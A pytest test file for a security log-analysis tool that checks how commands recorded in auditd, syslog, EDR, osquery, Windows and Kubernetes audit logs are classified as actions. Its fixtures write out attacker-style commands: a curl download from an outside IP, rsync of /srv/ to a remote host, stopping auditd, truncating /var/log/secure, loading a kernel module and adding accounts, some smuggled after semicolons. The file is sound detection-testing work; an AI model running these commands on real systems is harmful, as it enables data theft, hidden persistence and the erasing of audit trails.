"""What commands do, as the store tells it, whatever carries them; and what stays a start of a program."""

import json

import duckdb
import pytest

from moewarden.graphs.commands.telling import tell_deeds
from moewarden.graphs.events.audited import join_audit_records
from moewarden.graphs.events.store import EventStore

from ..reading import Case
from ..stores import make_desk

FETCH = "curl -s -o /tmp/k http://203.0.113.5:8080/k"


def _audit(number, command, *, uid=0, pid=20, ppid=10):
    words = " ".join(f'a{place}="{word}"' for place, word in enumerate(command.split()))
    exe = f"/usr/bin/{command.split()[0].rpartition('/')[2]}"
    head = f"msg=audit(1795815{number:03}.100:{number})"
    return (
        f"type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 items=2 ppid={ppid} pid={pid} auid=4294967295 uid={uid} "
        f'gid={uid} euid={uid} tty=(none) ses=4294967295 comm="x" exe="{exe}" key="exec"\n'
        f"type=EXECVE {head}: argc={len(command.split())} {words}\n"
    )


CARRIERS = {
    "auditd": ("audit.log", lambda command: _audit(100, command)),
    "snoopy": (
        "syslog",
        lambda command: (
            "Mar  5 10:11:12 web-2 snoopy[811]: [login:dana ssh:((undefined)) sid:9 tty:/dev/pts/0 (0/root) "
            f"uid:root(0)/root(0) cwd:/root]: {command}\n"
        ),
    ),
    "shell": ("messages", lambda command: f"Mar  5 10:11:12 web-2 bash[811]: HISTORY: PID=811 UID=0 {command}\n"),
    "history": ("root.history", lambda command: f"#1795815100\nls\n#1795815101\n{command}\n"),
    "osquery": (
        "osquery.json",
        lambda command: json.dumps(
            {
                "name": "process_events",
                "hostIdentifier": "web-2",
                "unixTime": 1795815100,
                "columns": {"cmdline": command, "path": "/bin/x", "pid": "9", "uid": "0", "username": "root"},
                "action": "added",
            }
        ),
    ),
    "tetragon": (
        "tetragon.json",
        lambda command: json.dumps(
            {
                "process_exec": {
                    "process": {"pid": 9, "binary": command.partition(" ")[0], "arguments": command.partition(" ")[2]},
                    "parent": {"binary": "/bin/bash"},
                },
                "node_name": "node-1",
                "time": "2026-11-27T21:31:40Z",
            }
        ),
    ),
    "crowdstrike": (
        "edr.json",
        lambda command: json.dumps(
            {
                "event_simpleName": "ProcessRollup2",
                "aid": "a",
                "ComputerName": "LT-9",
                "UserName": "dana",
                "ImageFileName": "/usr/bin/x",
                "CommandLine": command,
                "timestamp": "1795815100000",
            }
        ),
    ),
    "windows": (
        "security.json",
        lambda command: json.dumps(
            {
                "EventID": 4688,
                "Channel": "Security",
                "Computer": "SRV-2",
                "TimeCreated": "2026-11-27T21:31:40Z",
                "SubjectUserName": "erik",
                "NewProcessName": "C:\\Windows\\System32\\x.exe",
                "CommandLine": command,
            }
        ),
    ),
    "csv": (
        "detections.csv",
        lambda command: (
            "detected_at,device,account,parent_process,process,cmdline\n"
            f'2026-11-27 21:31:40,FS-02,contractor,cmd.exe,x.exe,"{command}"\n'
        ),
    ),
    "santa": (
        "santa.log",
        lambda command: (
            "[2026-11-27T21:31:40.000Z] I santad: action=EXEC|decision=ALLOW|reason=BINARY|sha256=0a|path=/usr/bin/x|"
            f"args={command}|cert_sha256=0b|pid=51|ppid=40|uid=0|user=root|gid=0|group=wheel|mode=M|machineid=mac-7\n"
        ),
    ),
}
ACTS = [
    ("useradd -m helper", "account_create", "helper"),
    ("insmod /opt/r.ko", "module_load", "/opt/r.ko"),
    ("truncate -s 0 /var/log/secure", "log_clear", "/var/log/secure"),
    ("systemctl stop auditd", "security_weaken", "auditd"),
    ("net user helper Pw1 /add", "account_create", "helper"),
    ("rsync -a /srv/ ops@203.0.113.5:/in/", "data_export", "/srv/"),
    ("crontab /opt/jobs", "task_schedule", "crontab"),
]
STAY = ["systemctl restart nginx", "logrotate /etc/logrotate.conf", "tar xzf a.tgz", "apt-get -y upgrade"]


def _told(tmp_path, files):
    case = Case(tmp_path)
    for name, text in files.items():
        case.write(name, text)
    case.read()
    join_audit_records(case.store_path)
    desk = make_desk(EventStore.open(case.store_path, case.logs))
    tell_deeds(desk, case.store_path)
    try:
        return desk.store.query("SELECT * FROM events WHERE action <> 'status' ORDER BY id")
    finally:
        desk.store.close()


@pytest.mark.parametrize("carrier", CARRIERS)
def test_the_start_of_a_program_becomes_the_act_and_other_work_stays(tmp_path, carrier):
    name, write = CARRIERS[carrier]
    commands = [FETCH, *STAY, *(command for command, _, _ in ACTS)]
    rows = _told(tmp_path, {f"{number:02}/{name}": write(command) for number, command in enumerate(commands)})
    last = {row["command"]: row for row in rows}
    fetched = last[FETCH]
    assert (fetched["action"], fetched["dst_ip"], fetched["dst_port"]) == ("process_start", "203.0.113.5", 8080)
    assert json.loads(fetched["fields"])["deeds"] == "download http://203.0.113.5:8080/k file /tmp/k"
    assert [(command, last[command]["action"], last[command]["target"]) for command, _, _ in ACTS] == ACTS
    assert {last[command]["category"] for command, _, _ in ACTS} == {"process_creation"}
    assert {last[command]["action"] for command in STAY} == {"process_start"}
    assert not any("deeds" in json.loads(last[command]["fields"]) for command in STAY)


def test_an_act_that_the_system_recorded_is_told_once(tmp_path):
    added = (
        'type=ADD_USER msg=audit(1795815101.000:105): pid=21 uid=0 auid=1001 ses=3 msg=\'op=add-user acct="helper" '
        'exe="/usr/sbin/useradd" res=success\'\n'
    )
    rows = _told(tmp_path, {"audit.log": _audit(100, "useradd -m helper") + added})
    assert [row["action"] for row in rows] == ["process_start", "account_create"]


def test_a_wrapper_and_what_it_runs_are_one_act(tmp_path):
    lines = _audit(100, "sudo useradd helper") + _audit(101, "useradd helper", pid=21, ppid=20)
    rows = _told(tmp_path, {"audit.log": lines})
    assert [row["action"] for row in rows] == ["process_start", "account_create"]


@pytest.mark.parametrize(
    ("words", "action"),
    [
        (["git", "commit", "-m", "drop it; useradd helper"], "process_start"),
        (["logger", "first; insmod x.ko"], "process_start"),
        (["sh", "-c", "cd /; useradd helper"], "account_create"),
    ],
    ids=["a message", "a log line", "a shell"],
)
def test_what_one_argument_only_quotes_is_not_done(tmp_path, words, action):
    spelled = [word.encode().hex().upper() if " " in word else f'"{word}"' for word in words]
    told = " ".join(f"a{place}={word}" for place, word in enumerate(spelled))
    start = _audit(100, "x").partition("type=EXECVE")[0]
    lines = f"{start}type=EXECVE msg=audit(1795815100.100:100): argc={len(words)} {told}\n"
    rows = _told(tmp_path, {"audit.log": lines})
    assert [row["action"] for row in rows if row["action"] != "status"] == [action]
    assert rows[-1]["command"] == " ".join(words), "the command stays as the record states it"


def test_a_request_to_run_something_in_a_container_stays_one(tmp_path):
    record = {
        "kind": "Event", "auditID": "a", "verb": "create", "stage": "ResponseComplete", "user": {"username": "dana"},
        "requestURI": "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&"
        "command=useradd+x%3B+curl+-O+http%3A%2F%2F203.0.113.5%2Fm",
        "sourceIPs": ["198.51.100.7"], "objectRef": {"resource": "pods", "namespace": "shop", "name": "web-1", "subresource": "exec"},
        "responseStatus": {"code": 101}, "requestReceivedTimestamp": "2026-11-27T22:15:01.000000Z",
    }  # fmt: skip
    row = _told(tmp_path, {"kube.json": json.dumps(record)})[-1]
    assert (row["action"], row["dst_ip"]) == ("process_start", "203.0.113.5")
    assert row["command"] == "sh -c 'useradd x; curl -O http://203.0.113.5/m'"


def test_a_store_without_commands_is_left_alone(tmp_path):
    case = Case(tmp_path)
    case.write("a.log", "Mar  5 10:11:12 web-2 sshd[811]: Failed password for root from 203.0.113.9 port 4711 ssh2\n")
    case.read()
    desk = make_desk(EventStore.open(case.store_path, case.logs))
    assert tell_deeds(desk, case.store_path) == 0
    desk.store.close()
    with duckdb.connect(str(case.store_path)) as connection:
        assert connection.execute("SELECT count(*) FROM events").fetchall() == [(1,)]
